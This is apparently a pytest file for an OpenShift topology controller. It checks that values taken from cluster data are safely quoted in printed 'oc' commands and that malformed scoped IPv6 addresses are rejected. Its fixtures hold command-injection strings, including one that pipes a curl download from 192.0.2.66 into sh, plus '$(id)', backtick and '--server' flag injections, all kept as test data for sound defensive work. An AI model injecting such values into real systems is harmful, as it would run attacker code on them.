"""What a cluster says is one word of a command that is printed to be pasted, and runs nothing."""

from __future__ import annotations

import shlex

import pytest

from topology_controller import shell
from topology_controller.checks import etcd, load_balancer
from topology_controller.observe import facts, parse
from topology_controller.observe import load_balancer as observed

from . import worlds

SCOPES = ["fe80::1%;curl 192.0.2.66|sh;#", "fe80::9%$(id)", "fe80::1%eth0", "[fe80::1%eth0]"]
EVIL = ["x'; touch /tmp/x; echo '", "$(id)", "`id`", "a b", "\\'", 'a"b', "*", "~root", "-x", "a\\", *SCOPES]


def pasted(text: str) -> list[str]:
    """The words of the command at the end of a message."""
    return shlex.split(text[text.index("oc ") :])


@pytest.mark.parametrize("evil", [*EVIL, "--server=https://evil.example"])
def test_no_value_is_taken_for_a_flag_or_for_several_words(evil: str) -> None:
    last = shell.command("oc adm policy add-cluster-role-to-user reader {}", evil)
    behind = [*(["--"] if evil.startswith("-") else []), evil]
    assert shlex.split(last) == ["oc", "adm", "policy", "add-cluster-role-to-user", "reader", *behind]
    assert shlex.split(shell.command("oc -n {} get x={}", evil, evil)) == ["oc", "-n", evil, "get", f"x={evil}"]


@pytest.mark.parametrize("evil", SCOPES)
def test_an_address_with_a_scope_is_no_backend_and_no_voter(evil: str) -> None:
    raw = {
        "metadata": {"name": "node-0", "labels": {"node-role.kubernetes.io/master": ""}},
        "status": {"addresses": [{"type": "InternalIP", "address": evil}]},
    }
    node = parse.node(raw)
    assert isinstance(node, facts.Node)
    assert node.addresses == ()
    assert (
        load_balancer.compare([node], None).command == "oc get nodes -l node-role.kubernetes.io/control-plane -o wide"
    )
    read = observed.backends(evil)
    assert read is not None
    assert read.addresses == ()
    entries = tuple(zip(worlds.MEMBERS, (*worlds.ADDRESSES[:2], evil), strict=True))
    voters = etcd.members(worlds.healthy(etcd_endpoints=facts.EtcdEndpoints(entries)))
    assert isinstance(voters, facts.Unobserved)
    assert "no IP address" in voters.why


@pytest.mark.parametrize("evil", EVIL)
def test_the_command_that_confirms_backends(evil: str) -> None:
    node = worlds.node(addresses=(evil,))
    words = pasted(load_balancer.compare([node], None).command)
    assert words[-1] == f"topology.openshift.io/load-balancer-backends={evil}"
